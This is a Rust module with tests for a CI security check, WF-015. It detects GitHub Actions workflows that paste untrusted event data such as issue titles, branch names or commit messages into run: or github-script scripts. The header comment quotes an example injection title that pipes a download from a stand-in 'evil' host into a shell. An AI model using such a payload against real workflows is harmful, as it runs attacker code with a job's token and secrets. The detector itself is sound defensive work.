//! WF-015: no attacker-controllable context is expanded with `${{ }}` into a script.
//!
//! GitHub pastes an expression's value into the text of a `run:` script (or of
//! `actions/github-script`'s `script:`) before the shell or node sees it. An issue title, a
//! branch name or a commit message is chosen by whoever opens the issue or pushes the branch,
//! so a title such as `"; curl evil | sh; "` becomes code running with the job's token and
//! secrets. Passed through `env:` the same value is data: the script reads `"$TITLE"`.
//! Issue #14 lists the contexts; `inputs.*` counts only in workflows a person or another
//! workflow triggers with inputs (`workflow_dispatch`, `workflow_call`), and not for an
//! input declared `boolean` or `number` (its value cannot carry text).

use std::collections::BTreeSet;
use std::sync::LazyLock;

use bundle_core::ops::report::Severity;
use regex::Regex;

use super::{Control, Outcome, at, with_workflows};
use crate::context::Context;
use crate::expr;
use crate::workflow::Workflow;

pub(super) const CONTROL: Control = Control {
    id: "WF-015",
    title: "Untrusted input is not expanded into scripts",
    severity: Severity::High,
    run,
};

/// Contexts whose value an outside contributor (or the person dispatching) chooses. `.*`,
/// `[0]` and `['x']` forms of an index are all accepted; contexts are case-insensitive.
static UNTRUSTED: LazyLock<Regex> = LazyLock::new(|| {
    let index = r"(?:\.\*|\[[^\]]*\])";
    let event = [
        r"issue\.(?:title|body)".to_owned(),
        r"pull_request\.(?:title|body|head\.ref|head\.label)".to_owned(),
        r"(?:comment|review|review_comment)\.body".to_owned(),
        format!(r"pages{index}\.page_name"),
        format!(r"commits{index}\.(?:message|author\.(?:name|email))"),
        r"head_commit\.(?:message|author\.[a-z_]+)".to_owned(),
        r"pusher\.(?:name|email)".to_owned(),
        r"workflow_run\.(?:head_branch|head_commit\.[a-z_.]+|display_title)".to_owned(),
        r"discussion\.(?:title|body)".to_owned(),
    ]
    .join("|");
    Regex::new(&format!(
        r"(?i)(?:^|[^A-Za-z0-9_.])(github\.event\.(?:{event})|github\.head_ref)(?:$|[^A-Za-z0-9_-])"
    ))
    .expect("static regex")
});

static INPUTS: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)(?:^|[^A-Za-z0-9_.])((?:github\.event\.)?inputs\.[A-Za-z_][A-Za-z0-9_-]*)")
        .expect("static regex")
});

/// The untrusted contexts one expression body reads, in order of appearance. `inputs` is
/// `None` when the workflow takes no inputs, else the inputs that cannot carry text.
fn untrusted_in(body: &str, inputs: Option<&BTreeSet<String>>) -> Vec<String> {
    let mut found: Vec<(usize, String)> = UNTRUSTED
        .captures_iter(body)
        .filter_map(|c| c.get(1))
        .map(|m| (m.start(), m.as_str().to_owned()))
        .collect();
    if let Some(typed) = inputs {
        found.extend(
            INPUTS
                .captures_iter(body)
                .filter_map(|c| c.get(1))
                .filter(|m| {
                    let name = m.as_str().rsplit('.').next().unwrap_or_default();
                    !typed.contains(&name.to_ascii_lowercase())
                })
                .map(|m| (m.start(), m.as_str().to_owned())),
        );
    }
    found.sort();
    found.into_iter().map(|(_, text)| text).collect()
}

/// Whether `inputs.*` comes from a person or a calling workflow here.
fn takes_inputs(wf: &Workflow) -> bool {
    wf.triggers
        .iter()
        .any(|t| t.text == "workflow_dispatch" || t.text == "workflow_call")
}

fn run(cx: &Context) -> Outcome {
    with_workflows(cx, |workflows| {
        let mut findings = Vec::new();
        for wf in workflows {
            let inputs = takes_inputs(wf).then_some(&wf.typed_inputs);
            for job in &wf.jobs {
                for step in &job.steps {
                    let script = step
                        .is_action("actions/github-script")
                        .then(|| step.input("script"))
                        .flatten()
                        .map(|v| {
                            (
                                v.value.as_str(),
                                v.line,
                                "`script:` of actions/github-script",
                            )
                        });
                    let run = step
                        .run
                        .as_ref()
                        .map(|r| (r.text.as_str(), r.line, "`run:`"));
                    for (text, first_line, place) in run.into_iter().chain(script) {
                        for e in expr::expressions(text) {
                            for context in untrusted_in(e.body, inputs) {
                                findings.push(at(
                                    &wf.path,
                                    Some(expr::line_at(text, first_line, e.offset)),
                                    format!(
                                        "job `{}` expands `{context}` into {place}; \
                                         pass it through `env:` and read the variable",
                                        job.id
                                    ),
                                ));
                            }
                        }
                    }
                }
            }
        }
        Outcome::from_findings(findings, "no untrusted context is expanded into a script")
    })
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use super::untrusted_in;
    use crate::controls::testkit::{Repo, assert_fail_at, assert_pass};

    const WF: &str = ".github/workflows/triage.yml";

    fn workflow(on: &str, steps: &str) -> String {
        format!(
            "on: {on}\npermissions:\n  contents: read\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    steps:\n{steps}"
        )
    }

    fn run_on(on: &str, steps: &str) -> super::Outcome {
        let repo = Repo::compliant();
        repo.write(WF, &workflow(on, steps));
        repo.run("WF-015")
    }

    #[test]
    fn passes_on_the_compliant_fixture() {
        assert_pass(&Repo::compliant().run("WF-015"));
    }

    #[test]
    fn fails_on_an_issue_title_in_run() {
        let outcome = run_on(
            "issues",
            "      - run: |\n          echo start\n          echo \"${{ github.event.issue.title }}\"\n",
        );
        assert_fail_at(&outcome, WF, Some(10));
        assert_eq!(
            outcome.message,
            "job `triage` expands `github.event.issue.title` into `run:`; \
             pass it through `env:` and read the variable"
        );
    }

    #[test]
    fn fails_on_the_pusher_name_in_git_config() {
        let outcome = run_on(
            "push",
            "      - run: git config --global user.name \"${{ github.event.pusher.name }}\"\n",
        );
        assert_fail_at(&outcome, WF, Some(8));
        assert!(outcome.message.contains("`github.event.pusher.name`"));
    }

    #[test]
    fn fails_in_a_github_script() {
        let outcome = run_on(
            "pull_request_target",
            "      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea\n        with:\n          script: |\n            const t = \"${{ github.event.pull_request.title }}\";\n",
        );
        assert_fail_at(&outcome, WF, Some(11));
        assert_eq!(
            outcome.message,
            "job `triage` expands `github.event.pull_request.title` into `script:` of \
             actions/github-script; pass it through `env:` and read the variable"
        );
    }

    #[test]
    fn passes_when_the_values_go_through_env() {
        let steps = "      - env:\n          TITLE: ${{ github.event.issue.title }}\n          PUSHER: ${{ github.event.pusher.name }}\n        run: |\n          echo \"$TITLE\"\n          git config --global user.name \"$PUSHER\"\n";
        assert_pass(&run_on("issues", steps));
        let script = "      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea\n        env:\n          TITLE: ${{ github.event.issue.title }}\n        with:\n          script: console.log(process.env.TITLE)\n";
        assert_pass(&run_on("issues", script));
    }

    #[test]
    fn passes_on_trusted_contexts() {
        assert_pass(&run_on(
            "push",
            "      - run: echo ${{ github.sha }} ${{ github.ref }} ${{ github.event.issue.number }}\n",
        ));
    }

    #[test]
    fn inputs_count_only_where_the_workflow_takes_them() {
        let steps = "      - run: ./deploy ${{ inputs.target }} ${{ github.event.inputs.env }}\n";
        let outcome = run_on("workflow_dispatch", steps);
        assert_fail_at(&outcome, WF, Some(8));
        assert_eq!(outcome.locations.len(), 2);
        assert_pass(&run_on("push", steps));
        let typed = "\n  workflow_dispatch:\n    inputs:\n      target: {type: boolean}\n  workflow_call:\n    inputs:\n      env: {type: number}";
        assert_pass(&run_on(typed, steps));
        let outcome = run_on(&typed.replace("type: number", "type: string"), steps);
        assert_eq!(outcome.locations.len(), 1);
        assert!(outcome.message.contains("`github.event.inputs.env`"));
    }

    #[test]
    fn recognizes_every_listed_context() {
        let untrusted = [
            "github.event.issue.body",
            "github.event.pull_request.body",
            "github.event.pull_request.head.ref",
            "github.event.pull_request.head.label",
            "github.event.comment.body",
            "github.event.review.body",
            "github.event.review_comment.body",
            "github.event.pages[0].page_name",
            "github.event.pages.*.page_name",
            "github.event.commits[0].message",
            "github.event.commits.*.author.name",
            "github.event.commits[1].author.email",
            "github.event.head_commit.message",
            "github.event.head_commit.author.email",
            "github.event.pusher.email",
            "github.event.workflow_run.head_branch",
            "github.event.workflow_run.head_commit.message",
            "github.event.workflow_run.display_title",
            "github.event.discussion.title",
            "github.event.discussion.body",
            "github.head_ref",
            "GITHUB.HEAD_REF",
        ];
        for context in untrusted {
            assert_eq!(untrusted_in(&format!(" {context} "), None), [context]);
        }
        let trusted = [
            "github.sha",
            "github.event.issue.number",
            "github.event.pull_request.head.sha",
            "github.event.pull_request.head.repo.full_name",
            "github.event.workflow_run.head_sha",
            "github.head_ref_name",
            "env.github.head_ref",
            "inputs.target",
        ];
        for context in trusted {
            assert!(untrusted_in(context, None).is_empty(), "{context}");
        }
        let typed = BTreeSet::from(["dry_run".to_owned()]);
        assert_eq!(
            untrusted_in("format('{0}', inputs.target, inputs.DRY_RUN)", Some(&typed)),
            ["inputs.target"]
        );
    }
}
